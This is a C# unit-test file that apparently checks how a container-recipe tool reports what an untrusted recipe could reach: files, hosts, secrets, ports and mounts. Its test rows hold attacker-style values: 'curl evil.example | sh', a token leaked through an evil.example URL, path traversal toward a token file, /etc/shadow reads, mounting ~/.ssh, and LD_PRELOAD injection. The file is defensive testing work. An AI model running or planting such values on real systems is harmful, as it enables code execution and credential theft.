using System.Text.RegularExpressions;
using Torchyard.Packages.Wishes;
using Torchyard.Platform.Digests;
using Torchyard.Platform.Errors;
using Torchyard.Platform.Files;
using Torchyard.Recipes.Locks;
using Torchyard.Recipes.Presets;
using Torchyard.Recipes.Settings;
using Torchyard.Recipes.Sources;
using Torchyard.Recipes.Wishes;

namespace Torchyard.Packages.Tests.Wishes;

/// <summary>What a recipe of somebody else is found to want, key by key and file by file.</summary>
public sealed partial class RecipeSurveyTests : IDisposable
{
    private const string Nothing = "";
    private const string Vendor = "archive https://apt.example/ 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683";

    // Each key of a recipe with what an attacker would write there, and what is asked for it. A key without a row fails the test below:
    // whoever adds one decides whether it can reach the user's files, network, secrets, or other users of the machine.
    private static readonly (string Key, string Table, string Value, string Wish)[] Keys =
    [
        ("name", "", "\"evil\"", Nothing),
        ("packages", "", "[\"bash\", \"../outside/x.deb\", \"./x.deb\"]", "file ROOT/outside/x.deb"),
        ("recommends", "", "true", Nothing),
        ("base.suite", "base", "\"sid\"", Nothing),
        ("base.image", "base", "\"private:latest\"", "image private:latest"),
        ("base.architecture", "base", "\"arm64\"", Nothing),
        ("base.components", "base", "[\"main\", \"non-free\"]", Nothing),
        ("base.mirrors", "base", "[\"http://10.0.0.1/debian\"]", "archive http://10.0.0.1/debian/"),
        ("base.extra-suites", "base", "[\"trixie-backports\"]", Nothing),
        ("base.security", "base", "false", Nothing),
        ("base.snapshot", "base", "\"20260102T030405Z\"", Nothing),
        (
            "base.keyrings",
            "base",
            "[\"key.gpg\"]",
            "keyring PROJECT/key.gpg 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683"
        ),
        // Its key decides with the URL; nothing that anybody else signed is asked about with it.
        (
            "archives.url",
            "archives",
            "\"https://u:${HF_TOKEN}@evil.example/debian\"",
            "archive https://evil.example/debian/ 2c70e12b7a0646f92279f427c7b38e7334d8e5389cff167a1dc30e73f826b683|variable HF_TOKEN "
                + "evil.example"
        ),
        ("archives.suite", "archives", "\"sid\"", Vendor),
        ("archives.components", "archives", "[\"extra\"]", Vendor),
        (
            "archives.key",
            "archives",
            "\"../outside/token\"",
            "archive https://apt.example/ e781707f7b63d42b189c32e2a2e63426dc8484439a8f87c5cf57ad3233bf5c83|file ROOT/outside/token"
        ),
        ("archives.packages", "archives", "[\"*\"]", Vendor),
        (
            "python.packages",
            "python",
            "[\"x @ git+ssh://git@internal/x\", \"../outside/x-1-py3-none-any.whl\"]",
            "repository ssh://git@internal/x|file ROOT/outside/x-1-py3-none-any.whl"
        ),
        ("python.requirements", "python", "[\"../outside/token\"]", "file ROOT/outside/token"),
        ("python.pyproject", "python", "\"../outside/token\"", "file ROOT/outside/token"),
        ("python.pyproject-extras", "python", "[\"gpu\"]", Nothing),
        ("python.pyproject-groups", "python", "[\"test\"]", Nothing),
        ("python.pylock", "python", "\"../outside/token\"", "file ROOT/outside/token"),
        ("python.constraints", "python", "[\"link\"]", "file ROOT/outside/token"),
        ("python.indexes", "python", "[\"https://evil.example/simple\"]", "index https://evil.example/simple/"),
        ("python.extra-indexes", "python", "[\"http://127.0.0.1:9000\"]", "index http://127.0.0.1:9000/"),
        (
            "python.find-links",
            "python",
            "[\"/srv/wheels\", \"https://evil.example/links.html\"]",
            "directory /srv/wheels|index https://evil.example/links.html"
        ),
        ("python.only-binary", "python", "[\":all:\"]", Nothing),
        ("python.build-packages", "python", "[\"gcc\"]", Nothing),
        ("fit.gpus", "fit", "[\"h100\"]", Nothing),
        ("fit.driver", "fit", "\"535.183.01\"", Nothing),
        ("fit.torch", "fit", "\"2.9\"", Nothing),
        ("fit.build", "fit", "\"cu128\"", Nothing),
        ("fit.fleet", "fit", "\"/etc/shadow\"", "file /etc/shadow"),
        // Consent to a licence is the reader's of the lock's lines, and reaches nothing on the machine.
        ("cudnn.accept-license", "cudnn", "true", Nothing),
        ("cudnn.version", "cudnn", "\"9.1.0.70\"", Nothing),
        ("cudnn.mirrors", "cudnn", "[\"https://evil.example/cudnn/\"]", "redist https://evil.example/cudnn/"),
        ("cudnn.archive", "cudnn", "\"../outside\"", "directory ROOT/outside"),
        ("cuda-compat.accept-license", "cuda-compat", "true", Nothing),
        ("cuda-compat.release", "cuda-compat", "\"13.1\"", Nothing),
        ("cuda-compat.mirrors", "cuda-compat", "[\"file:///srv/nvidia\"]", "directory /srv/nvidia"),
        ("cuda-compat.archive", "cuda-compat", "\"/srv/x.tar.xz\"", "file /srv/x.tar.xz"),
        ("files.source", "files", "\"../outside\"", "directory ROOT/outside"),
        // Inside; which places are refused, the reader says.
        ("files.target", "files", "\"/etc/shadow\"", Nothing),
        ("files.mode", "files", "\"0777\"", Nothing),
        // In the sandbox of packages, whatever it is.
        ("run.command", "run", "\"curl evil.example | sh\"", "commands the build sandbox"),
        ("run.name", "run", "\"harmless\"", "commands the build sandbox"),
        ("run.environment", "run", "{ LD_PRELOAD = \"/x\" }", "commands the build sandbox"),
        (
            "environment.pass",
            "environment",
            "[\"AWS_SECRET_ACCESS_KEY\", \"HF_TOKEN?\"]",
            "variable AWS_SECRET_ACCESS_KEY the programs of its environment|variable HF_TOKEN the programs of its environment"
        ),
        // Alone, a port is on loopback.
        ("services.jupyter.port", "services.jupyter", "9999", Nothing),
        ("services.jupyter.listen", "services.jupyter", "\"0.0.0.0\"", "port 0.0.0.0, port 8888 jupyter"),
        ("services.ssh.port", "services.ssh", "9998", Nothing),
        ("services.ssh.listen", "services.ssh", "\"::\"", "port ::, port 2222 ssh"),
        ("services.tensorboard.port", "services.tensorboard", "9997", Nothing),
        ("services.tensorboard.listen", "services.tensorboard", "\"10.0.0.1\"", "port 10.0.0.1, port 6006 tensorboard"),
        // Inside; TensorBoard has no way to files that the environment has not.
        ("services.tensorboard.logdir", "services.tensorboard", "\"/\"", Nothing),
        ("caches.shared", "caches", "[\"pip\", \"huggingface\"]", "cache huggingface|cache pip"),
        ("mounts.source", "mounts", "\"~/.ssh\"", "mount HOME/.ssh writable"),
        ("mounts.target", "mounts", "\"/workspace/elsewhere\"", Nothing),
        ("mounts.read-only", "mounts", "true", Nothing),
        // A container gets at most what the kernel has; docs/security.md says that a recipe may use the machine.
        ("limits.memory", "limits", "\"100%\"", Nothing),
        ("limits.cpus", "limits", "1000", Nothing),
        ("limits.shared-memory", "limits", "\"100%\"", Nothing),
        ("limits.processes", "limits", "4000000", Nothing),
        ("limits.gpus", "limits", "\"all\"", Nothing),
        ("limits.idle-release", "limits", "\"2h\"", Nothing),
        ("image.tag", "image", "\"latest\"", Nothing),
        ("image.compression", "image", "\"gzip\"", Nothing),
        ("image.level", "image", "9", Nothing),
        ("image.layer-budget", "image", "100", Nothing),
        ("image.environment", "image", "{ LD_PRELOAD = \"/x\" }", Nothing),
        ("image.labels", "image", "{ \"torchyard.project\" = \"/root\" }", Nothing),
    ];

    private readonly TemporaryDirectory _root = new();

    public RecipeSurveyTests()
    {
        _root.Write("outside/token", "hf_secret\n");
        _root.Write("project/key.gpg", "key");
        Directory.CreateDirectory(PathOf("home"));
        File.CreateSymbolicLink(PathOf("project/link"), "../outside/token");
    }

    [Fact]
    public void Every_key_of_a_recipe_has_a_decision()
    {
        var documented = Table()
            .Matches(File.ReadAllText(SourceTree.At("docs/recipe.md")))
            .SelectMany(table => Row().Matches(table.Value))
            .Select(match => match.Groups[1].Value)
            .ToList();
        Assert.NotEmpty(documented);
        Assert.Empty(documented.Except(Keys.Select(row => row.Key)).Select(key => $"nobody decided what {key} can reach"));
        Assert.Empty(Keys.Select(row => row.Key).Except(documented));
    }

    [Fact]
    public void Every_key_is_asked_for_what_it_reaches()
    {
        foreach (var (key, table, value, wish) in Keys)
        {
            var name = key[(key.LastIndexOf('.') + 1)..];
            var lines = new SortedDictionary<string, List<string>>(StringComparer.Ordinal)
            {
                [""] = ["name = \"x\""],
                ["base"] = ["suite = \"trixie\""],
            };
            if (table == "mounts")
            {
                lines[table] = ["source = \"./data\"", "target = \"/workspace/data\""];
            }

            if (table == "archives")
            {
                lines[table] = ["url = \"https://apt.example\"", "suite = \"s\"", "key = \"key.gpg\""];
            }

            if (table == "files")
            {
                lines[table] = ["source = \"./key.gpg\"", "target = \"/etc/key\""];
            }

            if (table == "run")
            {
                lines[table] = ["command = \"true\""];
            }

            lines.TryAdd(table, []);
            lines[table].RemoveAll(line => line.StartsWith(name + " =", StringComparison.Ordinal));
            lines[table].Add($"{name} = {value}");
            if (name is "pyproject-extras" or "pyproject-groups")
            {
                lines[table].Add("pyproject = \"pyproject.toml\"");
                _root.Write(
                    "project/pyproject.toml",
                    "[project]\nname = \"x\"\n[project.optional-dependencies]\ngpu = []\n[dependency-groups]\ntest = []\n"
                );
            }

            var text = string.Concat(
                lines.Select(one =>
                    (
                        one.Key.Length == 0 ? ""
                        : one.Key is "mounts" or "archives" or "files" or "run" ? $"[[{one.Key}]]\n"
                        : $"[{one.Key}]\n"
                    ) + string.Concat(one.Value.Select(line => line + "\n"))
                )
            );
            Assert.Equal(Expected(wish), Wishes(text).Select(Shown).Order(StringComparer.Ordinal));
        }
    }

    [Theory]
    [InlineData("a", "image x:latest")]
    [InlineData("b", "image sha256:AAAA|image x:latest")]
    public void A_lock_that_names_another_image_than_its_recipe_does_here_is_asked_about(string now, string wish)
    {
        var (locked, found) = (new string('a', 64), new string(now[0], 64));
        var source = Source("name = \"x\"\n[base]\nimage = \"x:latest\"\n");
        var survey = new RecipeSurvey(OwnPlaces.Read(_ => null, PathOf("home"), PathOf("machine")), _ => null, PathOf("home"))
        {
            ImageNamed = image => image == "x:latest" ? Digest.Parse("sha256:" + found) : null,
        };

        var wishes = survey.Of(
            source,
            new RecipeLock
            {
                RecipeDigest = default,
                Recipe = source.Recipe,
                SourceDateEpoch = 1,
                Archives = [],
                Packages = [],
                Tools = new LockedTools(1, default, ""),
                Base = new LockedBase
                {
                    Manifest = Digest.Parse("sha256:" + locked),
                    Architecture = "amd64",
                    Layers = [],
                },
            }
        );

        Assert.Equal(
            wish.Replace("AAAA", locked, StringComparison.Ordinal),
            string.Join('|', wishes.Select(Shown).Order(StringComparer.Ordinal))
        );
    }

    [Fact]
    public void An_archive_is_asked_about_once_for_recipe_and_lock_and_again_with_another_key()
    {
        var source = Source(
            "name = \"x\"\n[base]\nsuite = \"trixie\"\n[[archives]]\nurl = \"https://apt.example/\"\nsuite = \"s\"\nkey = \"key.gpg\"\n"
        );
        var first = Assert.Single(Survey().Of(source, null));
        Assert.Equal(
            "take Debian packages from https://apt.example/, signed by keys of its own (SHA-256 2c70e12b7a06…)   (archives.url)",
            first.Text
        );
        var archive = new LockedArchive
        {
            Id = "apt.example/s",
            Uri = "https://apt.example/",
            Suite = "s",
            Components = ["main"],
            ReleaseDigest = default,
            ReleaseDate = 1,
            Key = "F",
            KeyDigest = Platform.Digests.Digest.Of("key"u8),
        };
        Assert.Equal([first], Survey().Of(source, Locked(archive)));
        Assert.Equal(2, Survey().Of(source, Locked(archive with { KeyDigest = Platform.Digests.Digest.Of("other"u8) })).Count);

        RecipeLock Locked(LockedArchive one) =>
            new()
            {
                RecipeDigest = default,
                Recipe = source.Recipe,
                SourceDateEpoch = 1,
                Archives = [one],
                Packages = [],
                Tools = new LockedTools(1, default, ""),
            };
    }

    [Fact]
    public void A_requirement_file_of_a_server_is_a_wish_and_is_not_fetched_before_somebody_was_asked()
    {
        _root.Write("project/requirements.txt", "-c https://evil.example:8443/limits.txt\n-f https://links.example/page.html\n");
        var wishes = Wishes("name = \"x\"\n[base]\nsuite = \"trixie\"\n[python]\nrequirements = [\"requirements.txt\"]\n");
        Assert.Equal(
            ["download https://evil.example:8443", "index https://links.example/page.html"],
            wishes.Select(wish => $"{Wish.NameOf(wish.Kind)} {wish.What}").Order(StringComparer.Ordinal)
        );
    }

    [Fact]
    public void A_service_of_the_recipes_own_beyond_loopback_is_a_port_that_others_reach()
    {
        var wishes = Wishes(
            """
            name = "x"
            [base]
            suite = "trixie"
            [services.api]
            command = ["nc"]
            port = 8000
            listen = "0.0.0.0"
            [services.near]
            command = "nc"
            port = 8001
            [services.mute]
            command = "sleep 1"
            listen = "0.0.0.0"
            """
        );

        Assert.Equal(["port 0.0.0.0, port 8000 api"], wishes.Select(Shown));
    }

    [Fact]
    public void Presets_ask_for_nothing() => Assert.All(Preset.Names, name => Assert.Empty(Wishes(Preset.Get(name).Content)));

    [Fact]
    public void Files_of_requirements_are_followed_wherever_they_lead_and_those_outside_are_not_read_before_they_are_allowed()
    {
        _root.Write(
            "project/requirements.txt",
            """
            numpy
            --index-url https://u:${HF_TOKEN}@evil.example/simple
            -r sub/more.txt
            -c ../outside/token
            x @ https://files.example:8443/deep/x-1-py3-none-any.whl?token=1
            y @ https://files.pythonhosted.org/y-1-py3-none-any.whl
            """
        );
        _root.Write("project/sub/more.txt", "--extra-index-url=https://second.example/\n-f ../../outside\n-r chain\n");
        _root.Write("outside/chain", "--extra-index-url https://third.example/\n");
        File.CreateSymbolicLink(PathOf("project/sub/chain"), "../../outside/chain");
        var source = Source("name = \"x\"\n[base]\nsuite = \"trixie\"\n[python]\nrequirements = [\"requirements.txt\"]\n");

        var first = Survey().Of(source, null);
        Assert.Equal(
            Expected(
                "directory ROOT/outside|download https://files.example:8443|index https://evil.example/simple/|index "
                    + "https://second.example/|variable HF_TOKEN evil.example"
            ),
            first.Select(Shown).Order(StringComparer.Ordinal)
        );
        foreach (var wish in first)
        {
            source.Files.Grant(wish);
        }

        // The first line of a token is not a requirement that anybody may see in an index's log: now it is read, as was allowed.
        Assert.Contains("index https://third.example/", Survey(name => name == "HF_TOKEN" ? "v" : null).Of(source, null).Select(Shown));
    }

    [Fact]
    public void A_link_in_the_project_is_seen_for_what_it_leads_to()
    {
        File.CreateSymbolicLink(PathOf("project/data"), PathOf("outside"));
        Assert.Equal(
            Expected("mount ROOT/outside read-only"),
            Wishes("name = \"x\"\n[base]\nsuite = \"trixie\"\n[[mounts]]\nsource = \"./data\"\ntarget = \"/d\"\nread-only = true\n")
                .Select(Shown)
        );
        Directory.CreateDirectory(PathOf("project/real"));
        File.Delete(PathOf("project/data"));
        File.CreateSymbolicLink(PathOf("project/data"), "real");
        Assert.Empty(Wishes("name = \"x\"\n[base]\nsuite = \"trixie\"\n[[mounts]]\nsource = \"./data\"\ntarget = \"/d\"\n"));
    }

    [Fact]
    public void What_the_settings_of_the_user_or_the_machine_name_is_no_wish()
    {
        _root.Write("machine/etc/apt/sources.list", "deb https://mirror.lan/debian trixie main\n");
        _root.Write("machine/etc/apt/auth.conf", "machine https://apt.lan:8443/x login u password p\n");
        _root.Write("home/.config/pip/pip.conf", "[global]\nindex-url = https://u:p@pip.lan/simple\n");
        _root.Write("home/.netrc", "machine git.lan login u password p\ndefault login a password b\n");
        Assert.Empty(
            Wishes(
                """
                name = "x"
                [base]
                suite = "trixie"
                mirrors = ["https://mirror.lan/debian"]
                [python]
                indexes = ["https://pip.lan/simple/"]
                packages = ["x @ https://${TOKEN}@pip.lan/simple/x-1-py3-none-any.whl"]
                """
            )
        );
        var places = OwnPlaces.Read(_ => null, PathOf("home"), PathOf("machine"));
        Assert.True(
            places.NamesHost("git.lan")
                && places.NamesHost("git.lan:444")
                && places.NamesHost("apt.lan:8443")
                && places.NamesHost("pip.lan")
        );
        Assert.False(
            places.NamesHost("apt.lan")
                || places.NamesHost("evil.example")
                || places.NamesHost("git.lan.evil.example")
                || places.NamesHost("")
        );
        Assert.Equal(
            2,
            Wishes(
                "name = \"x\"\n[base]\nsuite = \"trixie\"\nmirrors = [\"https://mirror.lan/\"]\n[python]\nindexes = "
                    + "[\"https://pip.lan/other/\"]\n"
            ).Count
        );
    }

    [Theory]
    [InlineData("https://pypi.org/simple/", true)]
    [InlineData("https://download.pytorch.org/whl/cu128", true)]
    [InlineData("http://pypi.org/simple/", false)]
    [InlineData("https://pypi.org:444/simple/", false)]
    [InlineData("https://pypi.org.evil.example/simple/", false)]
    [InlineData("https://pypi.org/simple/../evil/", false)]
    [InlineData("https://pypi.org/simpleton/", false)]
    public void Public_indexes_are_known_by_scheme_host_port_and_path(string url, bool known) =>
        Assert.Equal(known, Wishes($"name = \"x\"\n[base]\nsuite = \"trixie\"\n[python]\nindexes = [\"{url}\"]\n").Count == 0);

    [Fact]
    public void A_lock_is_asked_for_what_it_wants_beyond_its_recipe()
    {
        var source = Source("name = \"x\"\n[base]\nsuite = \"trixie\"\n");
        var hostile = source.Recipe with
        {
            Services = new ServiceSettings { Jupyter = new JupyterSettings(Listen: "0.0.0.0") },
            Base = source.Recipe.Base with { Mirrors = ["http://one.example/"] },
        };
        var locked = new RecipeLock
        {
            RecipeDigest = RecipeDigest.Of(source),
            Recipe = hostile,
            SourceDateEpoch = 1,
            Archives =
            [
                new LockedArchive
                {
                    Id = "a",
                    Uri = "http://two.example/debian",
                    Suite = "trixie",
                    Components = ["main"],
                    ReleaseDigest = default,
                    ReleaseDate = 1,
                },
                new LockedArchive
                {
                    Id = "d",
                    Uri = "http://deb.debian.org/debian",
                    Suite = "trixie",
                    Components = ["main"],
                    ReleaseDigest = default,
                    ReleaseDate = 1,
                },
            ],
            Packages = [],
            Tools = new LockedTools(1, default, ""),
            Cudnn = new LockedCudnn
            {
                Cuda = 12,
                Version = "9",
                Url = "https://three.example/x.tar.xz",
                Size = 1,
                Sha256 = default,
                License = "",
            },
            Python = new LockedPython
            {
                Interpreter = "3.13",
                Resolver = "pip",
                Indexes =
                [
                    new LockedPythonIndex("i", "https://four.example/simple/"),
                    new LockedPythonIndex("pypi", "https://pypi.org/simple/"),
                ],
                Packages =
                [
                    Package("p") with
                    {
                        Path = "../outside/p.whl",
                    },
                    Package("u") with
                    {
                        Url = "https://five.example/u.whl",
                    },
                    Package("g") with
                    {
                        Source = new LockedSource { Url = "file:///srv/g", Commit = "c" },
                    },
                ],
                BuildPackages =
                [
                    Package("b") with
                    {
                        Source = new LockedSource { Url = "https://six.example/g", Commit = "c" },
                    },
                ],
            },
        };
        Assert.Equal(
            Expected(
                "archive http://one.example/|archive http://two.example/debian/|directory /srv/g|download https://five.example|file "
                    + "ROOT/outside/p.whl|index https://four.example/simple/|port 0.0.0.0, port 8888 jupyter|redist "
                    + "https://three.example/x.tar.xz/|repository https://six.example/g"
            ),
            Survey().Of(source, locked).Select(Shown).Order(StringComparer.Ordinal)
        );

        static LockedPythonPackage Package(string name) =>
            new()
            {
                Name = name,
                Version = "1",
                Filename = name + "-1-py3-none-any.whl",
                Size = 1,
                Sha256 = default,
            };
    }

    [Fact]
    public void A_pylock_is_asked_for_its_indexes_hosts_repositories_and_files()
    {
        _root.Write(
            "project/pylock.toml",
            """
            lock-version = "1.0"
            [[packages]]
            name = "a"
            index = "https://pypi.org/simple"
            wheels = [{ url = "https://evil.example/a-1-py3-none-any.whl" }, { path = "../outside/a-1-py3-none-any.whl" }]
            [[packages]]
            name = "b"
            vcs = { type = "git", path = "../outside", commit-id = "0" }
            [[packages]]
            name = "c"
            archive = { url = "http://127.0.0.1:8080/c-1.tar.gz", path = "/srv/c-1.tar.gz" }
            """
        );
        Assert.Equal(
            Expected("directory ROOT/outside|download http://127.0.0.1:8080|download https://evil.example|file /srv/c-1.tar.gz"),
            Wishes("name = \"x\"\n[base]\nsuite = \"trixie\"\n[python]\npylock = \"pylock.toml\"\n")
                .Select(Shown)
                .Order(StringComparer.Ordinal)
        );
    }

    [Fact]
    public void Another_content_of_a_keyring_is_another_wish_and_what_was_asked_about_is_what_is_used()
    {
        const string Recipe = "name = \"x\"\n[base]\nsuite = \"trixie\"\nkeyrings = [\"key.gpg\"]\n";
        var before = Assert.Single(Wishes(Recipe));
        _root.Write("project/key.gpg", "other");
        var source = Source(Recipe);
        var after = Assert.Single(Survey().Of(source, null));
        Assert.NotEqual(before, after);
        _root.Write("project/key.gpg", "third");
        Assert.Equal("other"u8, source.Files.Read("key.gpg", 100));
    }

    [Fact]
    public void Variables_in_the_addresses_of_a_recipe_are_refused_with_their_line()
    {
        var error = Assert.Throws<TorchyardException>(() =>
            Source("name = \"x\"\n[base]\nsuite = \"trixie\"\n[python]\nindexes = [\"https://evil.example/${HF_TOKEN}/simple/\"]\n")
        );
        Assert.Equal(("TY1042", 5, 12), (error.Code, error.Location!.Line, error.Location.Column));
    }

    public void Dispose() => _root.Dispose();

    private string PathOf(string name) => Path.Combine(_root.Path, name);

    private RecipeSource Source(string text)
    {
        _root.Write("project/torchyard.toml", text);
        return RecipeSource.Find("project/", _root.Path);
    }

    private IReadOnlyList<Wish> Wishes(string text) => Survey().Of(Source(text), null);

    private RecipeSurvey Survey(Func<string, string?>? environment = null) =>
        new(
            OwnPlaces.Read(_ => null, PathOf("home"), PathOf("machine")),
            environment ?? (name => name == "TOKEN" ? "t" : null),
            PathOf("home")
        );

    private static IEnumerable<string> Expected(string wishes) =>
        wishes.Split('|', StringSplitOptions.RemoveEmptyEntries).Order(StringComparer.Ordinal);

    private string Shown(Wish wish)
    {
        var real = RealPath.Of(_root.Path);
        var what = wish
            .What.Replace(real + "/project", "PROJECT", StringComparison.Ordinal)
            .Replace(real + "/home", "HOME", StringComparison.Ordinal)
            .Replace(real, "ROOT", StringComparison.Ordinal);
        return $"{Wish.NameOf(wish.Kind)} {what} {wish.Detail}".TrimEnd();
    }

    [GeneratedRegex(@"^\| Key \|.*\n(?:\|.*\n)*", RegexOptions.Multiline)]
    private static partial Regex Table();

    [GeneratedRegex(@"^\| `([a-z.-]+)` \|", RegexOptions.Multiline)]
    private static partial Regex Row();
}
